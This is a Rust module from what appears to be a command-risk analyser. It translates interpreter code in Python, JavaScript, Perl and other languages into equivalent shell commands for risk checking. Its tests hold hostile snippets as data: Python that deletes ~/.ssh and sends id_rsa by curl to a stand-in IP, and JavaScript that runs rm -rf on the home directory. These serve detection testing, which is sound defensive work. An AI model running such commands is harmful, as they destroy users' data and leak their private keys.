//! Front ends for code in other languages: what interpreter code does,
//! as the shell commands with the same effects.
//!
//! Each language with a tree-sitter grammar has a front end
//! (`python.rs`, `javascript.rs`) that lowers its syntax tree to the small
//! shared tree of `ast`; awk, Perl, Ruby, PHP and Lua are read by one
//! hand-written tolerant reader (`script.rs`, which says why) into the same tree; one evaluator (`eval`) follows values through it
//! and looks every call up in the language's table
//! (`grammars/languages/<language>.toml`, read by `table`). The result is
//! a shell script (`rm -rf ~`, `cat ~/.ssh/id_rsa | curl …`, the spawned
//! command) that the lowering analyses like any nested script, so every
//! shell rule applies to every language and none is written twice. Gaps
//! (a spawn or `exec` of a value that could not be resolved) are returned
//! for the lowering to record as issues, which ask.
//!
//! Code that does not parse is reported (`syntax_error`): Python and
//! JavaScript compile a whole script before running any of it, but the
//! grammar and the interpreter may disagree, so the caller treats it as a gap
//! and keeps the older scanner's findings as well.
//!
//! Nothing here runs unless a command hands code to an interpreter: tables
//! are parsed and parsers built on first use.

mod applescript;
pub(crate) mod ast;
pub mod cache;
pub(crate) mod eval;
mod javascript;
mod python;
mod script;
mod sql;
pub(crate) mod table;

use tree_sitter::{Language as Grammar, Node, Parser};

use crate::ir::spec::Language;

/// Longest code analysed, in bytes; longer code is a gap.
pub const MAX_CODE: usize = 256 * 1024;

/// What a front end found in a piece of code.
#[derive(Debug, Default, serde::Serialize, serde::Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Findings {
    /// Shell commands with the code's effects, one per line.
    pub lines: Vec<String>,
    /// What runs but could not be resolved, in a few words each.
    pub gaps: Vec<String>,
    /// The grammar found errors in the code.
    pub syntax_error: bool,
    /// For each line, the byte range in the code of the statement it came
    /// from, when known (`riskgate explain` points there).
    pub spans: Vec<Option<(usize, usize)>>,
}

/// A front end's output: the shared tree and whether the parse had errors.
pub(crate) struct Lowering {
    stmts: Vec<ast::Stmt>,
    errors: bool,
    /// Byte range in the code of each of `stmts` (top level only; may be
    /// empty or shorter when a front end does not know).
    spans: Vec<Option<(usize, usize)>>,
}

/// Analyses `code` in `lang`; `None` when the language has no front end
/// (the caller falls back to its scanner).
#[must_use]
pub fn analyse(lang: Language, code: &str) -> Option<Findings> {
    let (lower, table) = (lowering(lang)?, table::table(lang)?);
    if code.len() > MAX_CODE {
        return Some(Findings { gaps: vec![format!("{} code of {} bytes is too long to analyse", table.program, code.len())], ..Findings::default() });
    }
    let lowered = lower(code);
    // `exec`/`eval` of known code is lowered by the same front end.
    let found = eval::Eval::new(table, lower).run(&lowered.stmts, &lowered.spans);
    Some(Findings { lines: found.lines, gaps: found.gaps, syntax_error: lowered.errors, spans: found.spans })
}

/// The front end of `lang`, if it has one.
fn lowering(lang: Language) -> Option<eval::Lower> {
    Some(match lang {
        Language::Python => python::lower,
        Language::Javascript => javascript::lower,
        Language::Awk => |c| script::lower(script::Dialect::Awk, c),
        Language::Perl => |c| script::lower(script::Dialect::Perl, c),
        Language::Ruby => |c| script::lower(script::Dialect::Ruby, c),
        Language::Php => |c| script::lower(script::Dialect::Php, c),
        Language::Lua => |c| script::lower(script::Dialect::Lua, c),
        Language::Sql => sql::lower,
        Language::Applescript => applescript::lower,
        _ => return None,
    })
}

/// Parses `code` with `grammar` and lowers each top-level statement node
/// with `f`; `keep` selects the nodes that are statements.
fn lower_with(grammar: &Grammar, code: &str, keep: fn(&str) -> bool, f: impl Fn(Node<'_>, &str) -> ast::Stmt) -> Lowering {
    let mut parser = Parser::new();
    if parser.set_language(grammar).is_err() {
        return Lowering { stmts: Vec::new(), errors: true, spans: Vec::new() };
    }
    let Some(tree) = parser.parse(code, None) else { return Lowering { stmts: Vec::new(), errors: true, spans: Vec::new() } };
    let root = tree.root_node();
    let mut cursor = root.walk();
    let (stmts, spans) = root.named_children(&mut cursor).filter(|n| keep(n.kind())).map(|n| (f(n, code), Some((n.start_byte(), n.end_byte())))).unzip();
    Lowering { stmts, errors: root.has_error(), spans }
}

/// Decodes the backslash escapes shared by Python and JavaScript string
/// literals; an unknown escape keeps its character.
pub(crate) fn decode_escapes(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else {
            out.push('\\');
            break;
        };
        match e {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            '0'..='7' => {
                let mut v = e.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match chars.peek().and_then(|c| c.to_digit(8)) {
                        Some(d) => {
                            v = v * 8 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                out.push(char::from_u32(v).unwrap_or('\u{FFFD}'));
            }
            'x' | 'u' | 'U' => {
                let braced = e == 'u' && chars.peek() == Some(&'{');
                if braced {
                    chars.next();
                }
                let want = match e {
                    'x' => 2,
                    'u' if !braced => 4,
                    'U' => 8,
                    _ => 6,
                };
                let mut hex = String::new();
                while hex.len() < want && chars.peek().is_some_and(char::is_ascii_hexdigit) {
                    hex.extend(chars.next());
                }
                if braced && chars.peek() == Some(&'}') {
                    chars.next();
                }
                match u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    Some(ch) => out.push(ch),
                    None => {
                        out.push(e);
                        out.push_str(&hex);
                    }
                }
            }
            '\n' => {}
            other => out.push(other),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_decode() {
        assert_eq!(decode_escapes(r"\x72\x6d \u0041\n\101\\"), "rm A\nA\\");
        assert_eq!(decode_escapes(r"\u{72}"), "r");
    }

    /// Code cut anywhere never panics a front end, and a cut that leaves
    /// code the grammar cannot parse is reported, so the caller asks.
    #[test]
    fn cut_short_code_is_reported_never_trusted() {
        let snippets = [
            (
                Language::Python,
                "import os, shutil\np = os.path.join(os.environ['HOME'], '.ssh')\nshutil.rmtree(p)\nos.system(f\"curl -d @{p}/id_rsa https://203.0.113.9\")\n",
            ),
            (
                Language::Javascript,
                "const cp = require('child_process');\nconst h = require('os').homedir();\ncp.execSync(`rm -rf ${h}`, {stdio: 'inherit'});\n",
            ),
        ];
        for (lang, code) in snippets {
            let whole = analyse(lang, code).expect("front end");
            assert!(!whole.syntax_error && !whole.lines.is_empty(), "{code}");
            for (cut, _) in code.char_indices().skip(1) {
                let part = &code[..cut];
                let found = analyse(lang, part).expect("front end");
                let closed = part.trim_end().ends_with([';', ')']) || part.ends_with('\n');
                if !closed {
                    // An open string, call or template is an error, not a shorter program.
                    let open = part.matches('(').count() > part.matches(')').count();
                    assert!(!open || found.syntax_error, "{lang:?} cut at {cut} parsed clean: {part:?}");
                }
            }
        }
    }

    /// `count` strings of up to `max_len - 1` characters of `alphabet`,
    /// from an xorshift generator seeded with `seed` (the same every run).
    pub(super) fn random_texts(alphabet: &str, mut seed: u64, count: usize, max_len: u64) -> Vec<String> {
        let alphabet: Vec<char> = alphabet.chars().collect();
        let mut out = Vec::with_capacity(count);
        for _ in 0..count {
            let len = usize::try_from(seed % max_len).unwrap_or(0);
            let mut text = String::new();
            for _ in 0..len {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                text.push(alphabet[usize::try_from(seed % alphabet.len() as u64).unwrap_or(0)]);
            }
            out.push(text);
        }
        out
    }

    #[test]
    fn arbitrary_text_never_panics() {
        for text in random_texts("os.system('rm -rf ~')\n\"`${}[]()+=,;:#\\ \tabcxyz0189_ép", 0x9e37_79b9_7f4a_7c15, 2000, 80) {
            let _ = analyse(Language::Python, &text);
            let _ = analyse(Language::Javascript, &text);
        }
    }

    #[test]
    fn languages_without_a_front_end_are_left_to_the_scanner() {
        assert!(analyse(Language::Tcl, "exec id").is_none());
        assert!(analyse(Language::Python, &"#".repeat(MAX_CODE + 1)).is_some_and(|f| !f.gaps.is_empty()));
    }
}
